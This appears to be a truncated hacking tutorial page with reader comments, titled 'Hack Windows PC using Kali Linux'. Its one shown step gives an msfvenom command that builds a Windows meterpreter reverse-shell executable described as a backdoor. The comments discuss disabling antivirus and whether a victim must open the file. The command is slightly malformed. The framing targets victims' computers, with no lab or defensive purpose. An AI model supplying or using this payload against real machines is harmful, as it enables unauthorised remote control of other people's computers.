book collections email follower instructable user
Picture of Hack Windows PC using Kali Linux

Today lets see how to hack Windows PC using Kali Linux

Step 1: Creating the Payload

Picture of Creating the Payload

To Hack Windows we need to create a payload that will act as a backdoor for us to get into that PC. To create payload for windows.

Open terminal and Type

msfvenom -p windows/meterpreter/reverse_tcp - platform windows-a x86 -f exe -o /root/Desktop/back.exe

JakeJ607 months ago
im getting wrong payload selected

it says "no such file or directory @rb_sysopen???

01fannar2 years ago

Does this work for any version of windows?

Neonate (author)  01fannar2 years ago

It works on Windows 7,8 but make sure that you have your antivirus disabled.

Hey bro. Will only downloading the payload to victims computer be enough or he needs to open/click the file like we need to do in adroid. please reply asap bro